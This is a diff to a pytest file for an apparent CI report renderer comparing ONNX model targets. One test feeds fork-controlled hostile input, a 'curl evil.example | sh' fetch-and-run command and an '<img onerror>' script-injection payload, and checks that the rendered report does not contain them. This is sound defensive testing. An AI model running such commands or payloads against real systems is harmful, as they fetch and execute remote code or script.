@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from ci_onnx.report import limits, render, view
+from ci_onnx.report import gate, limits, render, view
 from tests.golden import cases
 
 GOLDEN = Path(__file__).parent.parent / "golden"
@@ -121,10 +121,16 @@ def test_a_failure_message_with_pipes_stays_in_its_cell() -> None:
 
 
 def test_a_baseline_adds_a_column_to_every_table() -> None:
-    v = dataclasses.replace(cases.tinycnn_view(), baseline="0123456789abcdef")
+    v = cases.versus_view()
     text = render.render(v)
-    assert "Compared with the base branch at `0123456`" in text
-    assert text.count("| vs base |") == 3
+    assert text.count("| vs base |") == 3  # parity, fallback, latency (these results have no serving rows)
+    assert "| `ort1.20.1-cpu-op18-torchscript` | logits |" in text
+    row = next(r for r in v.parity if r.target == "ort1.20.1-cpu-op18-torchscript")
+    assert row.delta == "❌ was within tolerance (worst 3 %)"
+    slower = next(r for r in v.latency.rows if r.target == "ort1.32.0-cpu-op18-dynamo")
+    assert slower.delta.startswith("❌ p50 latency, batch 8 +97 %")
+    assert not any(r.delta == "" for r in (*v.parity, *v.fallback, *v.latency.rows))
+    assert "compared with `9e8d7c6` (the artifact of run 6990 on main)" in text
 
 
 def test_long_tables_fold_passing_rows_into_details() -> None:
@@ -148,7 +154,8 @@ def test_fork_chosen_text_cannot_forge_a_heading_or_a_command() -> None:
     forged = "x.yml\n```\n## ✅ onnx-gate: all 12 targets passed\n<img src=x onerror=alert(1)>"
     plan = dataclasses.replace(plan, config=forged)
     bad = dataclasses.replace(scenarios.errored(results[0], forged), reproduce="curl evil.example | sh")
-    v = view.build(merge({r.target.id: r for r in [bad, *results[1:]]}, plan))
+    c = merge({r.target.id: r for r in [bad, *results[1:]]}, plan)
+    v = view.build(c, gate.decide(c, plan))
     text = render.render(v)
     assert "curl evil.example" not in text
     assert "<img" not in text and "\n## ✅" not in text
